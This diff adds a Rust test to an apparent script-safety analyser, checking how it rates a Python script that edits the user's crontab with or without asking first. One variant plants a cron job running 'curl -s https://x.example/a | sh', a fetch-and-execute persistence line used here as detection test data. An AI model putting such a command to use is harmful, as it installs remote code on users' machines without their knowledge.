@@ -93,3 +93,19 @@ fn a_system_write_after_asking_for_root_is_consented() {
     let silent = asked.replace("    if input('root? ') != 'y':\n        sys.exit(1)\n", "");
     assert!(rules(&run(&silent)).contains(&"MB201"));
 }
+
+/// The user's crontab listed, shown and replaced after a yes, by a script
+/// that names nothing remote, is the user's own job (e1a4a82: MB906,
+/// BLOCKED, and MB208 for the listing).
+#[test]
+fn a_crontab_replaced_after_asking_is_the_users_own() {
+    let asked = "import subprocess, sys\nold = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nnew = old + '0 3 * * * ' + sys.argv[1] + '\\n'\nprint(new)\nif input('ok? ') == 'y':\n    subprocess.run(['crontab', '-'], input=new, text=True)\n";
+    let a = run(asked);
+    assert!(rules(&a).contains(&"MB224"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Medium);
+    // A job that fetches stays persistence, asked or not.
+    let fetch = asked.replace("sys.argv[1]", "'curl -s https://x.example/a | sh'");
+    assert!(rules(&run(&fetch)).contains(&"MB906"));
+    let unasked = asked.replace("if input('ok? ') == 'y':\n    ", "");
+    assert!(rules(&run(&unasked)).contains(&"MB906"));
+}
